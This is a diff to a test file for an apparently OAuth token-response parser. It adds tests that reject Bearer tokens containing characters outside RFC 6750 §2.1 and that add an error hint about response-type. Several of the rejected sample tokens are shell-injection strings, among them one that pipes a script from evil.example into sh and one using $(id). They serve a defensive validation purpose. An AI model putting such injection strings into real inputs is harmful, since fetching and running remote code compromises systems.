@@ -110,6 +110,53 @@ describe('strict about what a job needs', () => {
     expect(parseTokenResponse(json({ ...stent, expires_in: expiresIn })).expiresIn).toBe(seconds)
   })
 
+  describe('a Bearer token holds to RFC 6750 §2.1 (b64token), so its text is never shell text', () => {
+    it.each([
+      'eyJ.aaaa.bbbb; curl evil.example | sh',
+      'eyJ.aaaa bbbb',
+      'eyJ.aaaa|bbbb',
+      'eyJ.aaaa:bbbb',
+      'eyJ.aaaa$(id)',
+      'eyJ.aaaa==bbbb',
+      "eyJ.aaaa'bbbb"
+    ])('%j is refused, naming access_token, never quoting it', token => {
+      const message = parseError(json({ ...stent, access_token: token }))
+      expect(message).toBe(
+        "The token response (HTTP 200) has an invalid access_token: a Bearer token with characters RFC 6750 §2.1 does not allow (only letters, digits, '-', '.', '_', '~', '+', '/' and trailing '=')."
+      )
+      expect(message).not.toContain('eyJ')
+    })
+
+    it('every b64token character, with trailing padding, is accepted', () => {
+      const token = 'AZaz09-._~+/token=='
+      expect(parseTokenResponse(json({ ...stent, access_token: token })).accessToken).toBe(token)
+    })
+
+    it('an N_A token from a token exchange keeps RFC 6749 §A.12 (printable ASCII)', () => {
+      const token = 'id token: not; a|bearer'
+      const exchanged = parseTokenResponse(
+        json({
+          access_token: token,
+          token_type: 'N_A',
+          issued_token_type: 'urn:ietf:params:oauth:token-type:id_token'
+        }),
+        'rfc8693'
+      )
+      expect(exchanged).toMatchObject({ accessToken: token, tokenType: 'N_A' })
+      // A Bearer token from the same exchange is held to b64token.
+      expect(() =>
+        parseTokenResponse(
+          json({
+            access_token: token,
+            token_type: 'Bearer',
+            issued_token_type: 'urn:ietf:params:oauth:token-type:access_token'
+          }),
+          'rfc8693'
+        )
+      ).toThrow('has an invalid access_token: a Bearer token with characters RFC 6750 §2.1')
+    })
+  })
+
   it('does not echo a token_type that could be anything', () => {
     const message = parseError(json({ ...stent, token_type: 'x'.repeat(65) }))
     expect(message).toContain('has an invalid token_type')
@@ -220,6 +267,16 @@ describe('hints that name the input to change', () => {
       'Hint: the server found the request malformed'
     )
   })
+
+  it.each(['Invalid response type', 'RESPONSE_TYPE not allowed', 'response-type unsupported'])(
+    'an invalid_request saying %j, in any case or spelling, gets the response-type hint',
+    description => {
+      const body = { error: 'invalid_request', error_description: description }
+      expect(failure(400, JSON.stringify(body))).toContain(
+        "Hint: the server does not take Stent's response_type=token: set response-type: ''"
+      )
+    }
+  )
 
   it.each([404, 405])('HTTP %i at the issuer root: set issuer', status => {
     expect(failure(status, '', 'https://login.example.com/')).toBe(
